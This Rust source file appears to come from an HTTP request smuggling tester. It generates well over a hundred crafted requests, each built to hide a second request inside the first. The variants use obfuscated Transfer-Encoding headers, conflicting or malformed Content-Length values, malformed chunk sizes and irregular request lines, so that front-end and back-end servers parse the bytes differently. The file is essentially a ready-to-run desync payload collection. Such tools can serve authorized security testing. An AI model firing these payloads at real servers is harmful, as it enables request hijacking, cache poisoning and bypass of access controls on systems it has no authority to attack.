//! The requests themselves, each around whatever is to be hidden.

/// Makes the bytes of the host and of what is hidden.
type Bytes = Box<dyn Fn(&str, &[u8]) -> Vec<u8> + Send + Sync>;

/// A request that two servers could read differently.
pub struct Attack {
    /// What is odd about it.
    pub name: String,
    /// The whole of it.
    pub bytes: Bytes,
}

/// Not hidden at all: the control of what is hidden in the others.
pub fn in_a_row(host: &str, hidden: &[u8]) -> Vec<u8> {
    [
        format!("GET /healthz HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes(),
        hidden,
    ]
    .concat()
}

/// All of them.
pub fn attacks() -> Vec<Attack> {
    let mut all = Vec::new();
    for coding in CODINGS {
        all.extend(coded(coding));
    }
    all.extend(LENGTHS.into_iter().map(|lines| of_length("a length", lines)));
    all.extend(HEADS.into_iter().map(|lines| of_length("a head", lines)));
    all.extend(CHUNKS.into_iter().map(chunks));
    all.extend(BODIES.into_iter().map(|(line, more)| body(line, more)));
    all.extend(LINES.into_iter().map(first_line));
    all.push(line_feeds_alone());
    all
}

/// How a coding can be told so that one server hears it and another one does not.
const CODINGS: [&str; 19] = [
    "Transfer-Encoding: chunked",
    "transfer-encoding: CHUNKED",
    "Transfer-Encoding:chunked",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding: \x0bchunked",
    "Transfer-Encoding: chunked\x0b",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding : chunked",
    " Transfer-Encoding: chunked",
    "Transfer-Encoding:\r\n chunked",
    "Transfer_Encoding: chunked",
    "X: y\nTransfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked",
    "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
];

/// Each with a length that tells another end than the chunks, one way round and the other, and with none.
fn coded(coding: &'static str) -> [Attack; 3] {
    [
        attack(format!("a length, then {coding:?}"), move |host, hidden| {
            let body = [b"0\r\n\r\n", hidden].concat();
            post(host, &format!("Content-Length: {}\r\n{coding}", body.len()), &body)
        }),
        attack(format!("{coding:?}, then a length"), move |host, hidden| {
            let size = format!("{:x}\r\n", hidden.len());
            let body = [size.as_bytes(), hidden, b"\r\n0\r\n\r\n"].concat();
            post(host, &format!("{coding}\r\nContent-Length: {}", size.len()), &body)
        }),
        attack(format!("{coding:?} alone"), move |host, hidden| {
            post(host, coding, &[b"0\r\n\r\n", hidden].concat())
        }),
    ]
}

/// Where `{}` is the length of what is hidden.
const LENGTHS: [&str; 19] = [
    "Content-Length: 0\r\nContent-Length: {}",
    "Content-Length: {}\r\nContent-Length: 0",
    "Content-Length: {}\r\nContent-Length: {}",
    "Content-Length: 0, {}",
    "Content-Length: {}, 0",
    "Content-Length: +{}",
    "Content-Length: -0",
    "Content-Length: +0",
    "Content-Length: 0x0",
    "Content-Length: 0 {}",
    "Content-Length: 0\x0b",
    "Content-Length: \r\n {}",
    "Content-Length : {}",
    "Content_Length: {}",
    "Content-Length: 4294967296",
    "Content-Length: 18446744073709551616",
    "Content-Length:",
    "Content-Length: 0\r\nContent_Length: {}",
    "Connection: Content-Length\r\nContent-Length: {}",
];

const HEADS: [&str; 11] = [
    "X: y\r\n Content-Length: {}",
    "X: y\r\n\tContent-Length: {}",
    "X: y\nContent-Length: {}",
    "X: y\rContent-Length: {}",
    "X: y\0\r\nContent-Length: {}",
    "Host: elsewhere\r\nContent-Length: {}",
    "Expect: 100-continue\r\nContent-Length: {}",
    "Expect: y 100-continue\r\nContent-Length: {}",
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
    "Connection: close, X-Forwarded-For, Host\r\nContent-Length: {}",
];

fn of_length(what: &str, lines: &'static str) -> Attack {
    attack(format!("{what}: {lines:?}"), move |host, hidden| {
        post(host, &lines.replace("{}", &hidden.len().to_string()), hidden)
    })
}

/// What stands before what is hidden. `{}` is its length in hexadecimal digits.
const CHUNKS: [&str; 21] = [
    "0x0\r\n\r\n",
    "+0\r\n\r\n",
    "-0\r\n\r\n",
    " 0\r\n\r\n",
    "0 \r\n\r\n",
    "0_0\r\n\r\n",
    "10000000000000000\r\n\r\n",
    "ffffffffffffffff0\r\n\r\n",
    "\r\n0\r\n\r\n",
    "0\n\n",
    "0\r\r",
    "0\n\r\n",
    "0;x\n\r\n",
    "0;x=\"\r\n\r\n",
    "0;x\r\r\n\r\n",
    "2;\nyy\r\n{}\r\n0\r\n\r\n",
    "1\ny\r\n0\r\n\r\n",
    "5\r\nhello0\r\n\r\n",
    "5\r\nhelloyy0\r\n\r\n",
    "0\r\nContent-Length: {}\r\n\r\n",
    "0\r\n",
];

fn chunks(before: &'static str) -> Attack {
    attack(format!("chunks: {before:?}"), move |host, hidden| {
        let before = before.replace("{}", &format!("{:x}", hidden.len()));
        post(
            host,
            "Transfer-Encoding: chunked",
            &[before.as_bytes(), hidden].concat(),
        )
    })
}

/// Bodies that are all that is hidden, for those who look at no body.
const BODIES: [(&str, &str); 16] = [
    ("GET /favicon.svg", ""),
    ("GET /products/enamel-mug", ""),
    ("GET /healthz", ""),
    ("GET /cart", "If-None-Match: *\r\n"),
    ("HEAD /products/enamel-mug", ""),
    ("OPTIONS /cart", ""),
    ("TRACE /", ""),
    ("DELETE /cart", ""),
    ("POST /no-such-page", ""),
    ("POST /pkg/once.js", ""),
    ("POST /cart/lines", "Content-Type: text/plain\r\n"),
    ("POST /cart/lines", "Origin: https://elsewhere.example\r\n"),
    ("POST /buy-now", "Sec-Fetch-Site: cross-site\r\n"),
    ("POST /api/submit_order", "Content-Type: application/json\r\n"),
    ("POST /api/no-such-function", ""),
    ("POST /api/v1/orders", "Content-Type: application/json\r\n"),
];

fn body(line: &'static str, more: &'static str) -> Attack {
    attack(format!("a body: {line} {more:?}"), move |host, hidden| {
        let head = format!(
            "{line} HTTP/1.1\r\nHost: {host}\r\n{more}Content-Length: {}\r\n\r\n",
            hidden.len()
        );
        [head.as_bytes(), hidden].concat()
    })
}

const LINES: [&str; 9] = [
    "POST /cart HTTP/1.0",
    "POST /cart HTTP/1.1 HTTP/1.1",
    "POST /cart HTTP/0.9",
    "POST /cart",
    "POST  /cart HTTP/1.1",
    "POST\t/cart\tHTTP/1.1",
    "POST /cart%20HTTP/1.1%0d%0aContent-Length:%200%0d%0a%0d%0a HTTP/1.1",
    "POST http://elsewhere/cart HTTP/1.1",
    "\r\nPOST /cart HTTP/1.1",
];

/// With chunks at an end, and what is hidden behind them.
fn first_line(line: &'static str) -> Attack {
    attack(format!("a first line: {line:?}"), move |host, hidden| {
        let head = format!("{line}\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n");
        [head.as_bytes(), hidden].concat()
    })
}

fn line_feeds_alone() -> Attack {
    attack("line feeds alone".to_owned(), |host, hidden| {
        let head = format!(
            "POST /cart HTTP/1.1\nHost: {host}\nContent-Length: {}\n\n",
            hidden.len()
        );
        [head.as_bytes(), hidden].concat()
    })
}

fn attack(name: String, bytes: impl Fn(&str, &[u8]) -> Vec<u8> + Send + Sync + 'static) -> Attack {
    Attack {
        name,
        bytes: Box::new(bytes),
    }
}

fn post(host: &str, lines: &str, body: &[u8]) -> Vec<u8> {
    let head = format!("POST /cart/lines HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n\r\n");
    [head.as_bytes(), body].concat()
}
